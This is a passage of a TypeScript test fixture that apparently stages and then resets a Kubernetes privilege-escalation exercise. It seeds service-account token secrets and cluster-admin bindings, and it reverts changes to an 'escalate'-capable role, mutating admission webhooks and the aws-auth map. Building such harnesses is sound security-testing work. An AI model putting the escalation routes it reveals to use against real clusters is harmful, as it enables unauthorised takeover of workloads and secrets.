    await administrator.post('/api/v1/namespaces', { metadata: { name } });
  for (const namespace of [PAYMENTS, 'kube-system']) {
    const secret = { metadata: { name: `of-${namespace}` }, stringData: { key: SECRET } };
    await administrator.post(`/api/v1/namespaces/${namespace}/secrets`, secret);
  }
  const accounts = { [PAYMENTS]: 'argocd', 'kube-system': AGGREGATION, [EMPTY]: 'default' };
  for (const [namespace, name] of Object.entries(accounts))
    await administrator.post(`/api/v1/namespaces/${namespace}/serviceaccounts`, { metadata: { name } });
  for (const [namespace, account, name] of [
    [PAYMENTS, 'argocd', OF_ARGOCD],
    ['kube-system', AGGREGATION, OF_CONTROLLER],
  ] as const) {
    const annotations = { 'kubernetes.io/service-account.name': account };
    const secret = { metadata: { name, annotations }, type: 'kubernetes.io/service-account-token' };
    await administrator.post(`/api/v1/namespaces/${namespace}/secrets`, secret);
    await tokenIn(administrator, `/api/v1/namespaces/${namespace}/secrets/${name}`);
  }
  const pod = {
    metadata: { name: 'web' },
    spec: { nodeName: 'none', containers: [{ name: 'web', image: 'web' }] },
  };
  await administrator.post(`/api/v1/namespaces/${PAYMENTS}/pods`, pod);
  const subjects = [
    PLATFORM_GROUP,
    user('alice'),
    { kind: 'ServiceAccount', name: 'argocd', namespace: PAYMENTS },
  ];
  for (const [index, subject] of subjects.entries()) {
    const name = index === 0 ? PLATFORM : `administrator-${index}`;
    await administrator.post(
      `${API}/clusterrolebindings`,
      binding('ClusterRoleBinding', name, 'cluster-admin', [subject]),
    );
  }
  await eventually(() => callerOf(ROLE, 'anybody').get('/version'));
}

/** A caller with the token in a secret, once the controller has written it. */
function tokenIn(me: Caller, path: string): Promise<Caller> {
  return eventually(async () => {
    const { data } = v.parse(v.object({ data: dataSchema }), await me.get(path));
    const token = Buffer.from(data?.token ?? '', 'base64').toString();
    expect(token).not.toBe('');
    return new Caller(path, () => token);
  });
}

const dataSchema = v.optional(v.record(v.string(), v.string()));

/** Undoes an attempt's changes to shared objects. */
export async function restoreSurroundings(): Promise<void> {
  const rules = [rule('escalate get list patch update watch', GROUP, 'clusterroles')];
  await administrator.patch(clusterRole(`system:controller:${AGGREGATION}`), { rules });
  for (const kind of [
    'mutatingadmissionpolicybindings',
    'mutatingadmissionpolicies',
    'mutatingwebhookconfigurations',
  ])
    await administrator.delete(`${ADMISSION}/${kind}/helper`).catch(() => {});
  // Changes aws-auth only if necessary: without a map, nobody has access for a moment.
  const { mapRoles } = await liveData().catch(() => ({ mapRoles: undefined }));
  if (mapRoles === OWN_AWS_AUTH) return;
  await setAwsAuth({ mapRoles: OWN_AWS_AUTH });
  await eventually(() => expect(evil.get('/version')).rejects.toThrow(': 401 '));
  await eventually(() => callerOf(ROLE, 'anybody').get('/version'));
}
